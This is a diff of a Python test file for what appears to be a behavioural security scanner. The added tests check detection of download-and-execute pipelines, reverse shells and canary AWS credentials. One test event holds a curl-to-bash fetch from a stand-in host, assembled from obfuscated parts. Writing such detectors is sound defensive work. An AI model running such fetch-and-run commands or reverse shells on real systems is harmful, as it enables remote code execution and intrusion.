@@ -162,3 +162,20 @@ def test_plan_runs_the_entrypoint_then_scripts_first():
 def test_redaction_reaches_nested_events():
     event = {"kind": "http", "headers": {"Authorization": f"Bearer {CANARIES.env['GITHUB_TOKEN']}"}}
     assert CANARIES.env["GITHUB_TOKEN"] not in str(redact_canaries([event], CANARIES))
+
+
+def test_a_pipeline_computed_at_run_time_is_seen_from_its_parts():
+    line = '"$(r "$a")" -fsS "$(r "$b")" | "$(r "$c")"'
+    events = [{"kind": "shell", "command": "curl -fsS https://x.example.org/l.sh", "line_text": line, "file": "t.sh", "line": 6},
+              {"kind": "shell", "command": "bash ", "line_text": line, "file": "t.sh", "line": 6}]  # fmt: skip
+    assert ("behaviour.download-exec", "CRITICAL") in _rules(_judge(events))
+
+
+def test_a_shell_given_a_pty_is_a_reverse_shell():
+    findings = _judge([{"kind": "exec", "argv": ["/bin/bash"], "pty": True, "file": "c.py", "line": 15}])
+    assert ("behaviour.reverse-shell", "CRITICAL") in _rules(findings)
+
+
+def test_every_secret_in_a_canary_file_is_tracked():
+    labels = [label for label in CANARIES.values() if label.startswith("~/.aws/credentials")]
+    assert len(labels) == 2  # the key id and the secret key
